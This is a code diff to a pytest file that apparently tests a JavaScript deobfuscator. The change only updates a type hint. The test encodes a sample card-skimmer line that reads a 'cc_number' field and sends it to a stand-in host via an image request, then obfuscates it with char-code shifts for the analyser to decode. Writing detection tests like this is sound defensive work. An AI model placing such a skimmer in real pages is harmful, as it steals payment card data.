@@ -6,6 +6,7 @@ Every snippet here is inert text written for these tests (none is a real sample,
 from __future__ import annotations
 
 import base64
+from collections.abc import Callable
 
 import pytest
 
@@ -328,7 +329,7 @@ def test_constant_folding_resolves_hidden_hosts(expr: str, host: str) -> None:
 
 @pytest.mark.parametrize(("op", "encode"), [("+2", lambda c: chr(ord(c) - 2)), ("-10", lambda c: chr(ord(c) + 10)),
                                            ("^7", lambda c: chr(ord(c) ^ 7))])
-def test_char_code_loops_decode_and_the_decoded_code_is_analysed(op: str, encode: object) -> None:
+def test_char_code_loops_decode_and_the_decoded_code_is_analysed(op: str, encode: Callable[[str], str]) -> None:
     inner = "var v = document.getElementById('cc_number').value; new Image().src = 'https://loop.example.net/?' + v;"
     hidden = "".join(encode(c) for c in inner).replace("\\", "\\\\").replace("'", "\\'")
     code = ("var x = '" + hidden + "', y = '', z = x['length'];\n"
